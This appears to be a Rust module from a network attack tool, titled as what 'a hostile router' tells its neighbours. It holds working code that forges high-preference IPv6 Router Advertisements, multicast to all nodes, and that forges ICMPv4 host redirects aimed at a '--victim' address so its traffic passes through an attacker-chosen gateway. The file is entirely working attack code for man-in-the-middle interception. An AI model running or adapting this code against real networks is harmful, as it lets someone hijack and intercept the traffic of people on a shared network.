//! What a hostile router tells its neighbours.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use super::{Outcome, Words};

/// Advertises this host as the default router, and as the better way to one network (RFC 4861 4.2, RFC 4191 2.3).
pub(super) fn advertise(words: &mut Words) -> Outcome {
    let device: String = words.required_option("--device")?;
    let network: Ipv6Addr = words.required_option("--network")?;
    let prefix_len: u8 = words.required_option("--prefix-len")?;
    words.end()?;
    let index: u32 = std::fs::read_to_string(format!("/sys/class/net/{device}/ifindex"))?.trim().parse()?;
    const HIGH: u8 = 0b01 << 3;
    let mut message = vec![134, 0, 0, 0, 64, HIGH];
    message.extend(60u16.to_be_bytes());
    message.extend([0; 8]);
    message.extend([24, 3, prefix_len, HIGH]);
    message.extend(60u32.to_be_bytes());
    message.extend(network.octets());
    let socket = Socket::new(Domain::IPV6, Type::RAW, Some(Protocol::ICMPV6))?;
    socket.set_multicast_hops_v6(255)?;
    socket.set_multicast_if_v6(index)?;
    let everybody = SocketAddrV6::new("ff02::1".parse()?, 0, 0, index);
    socket.send_to(&message, &SockAddr::from(everybody))?;
    Ok(())
}

/// Tells `--victim` that `--to` is reached by another way (RFC 792, redirect for a host).
pub(super) fn redirect(words: &mut Words) -> Outcome {
    let victim: Ipv4Addr = words.required_option("--victim")?;
    let target: Ipv4Addr = words.required_option("--to")?;
    let by: Ipv4Addr = words.required_option("--by")?;
    words.end()?;
    let mut message = vec![5, 1, 0, 0];
    message.extend(by.octets());
    // About an echo reply, because the kernel sent it and needs no socket to believe this.
    message.extend([0x45, 0, 0, 28, 0, 0, 0, 0, 64, 1, 0, 0]);
    message.extend(victim.octets());
    message.extend(target.octets());
    message.extend([0; 8]);
    let checksum = checksum(&message);
    message[2..4].copy_from_slice(&checksum.to_be_bytes());
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::ICMPV4))?;
    socket.send_to(&message, &SockAddr::from(SocketAddr::new(IpAddr::V4(victim), 0)))?;
    Ok(())
}

/// RFC 1071.
fn checksum(bytes: &[u8]) -> u16 {
    let words =
        bytes.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)])));
    let mut sum: u32 = words.sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}
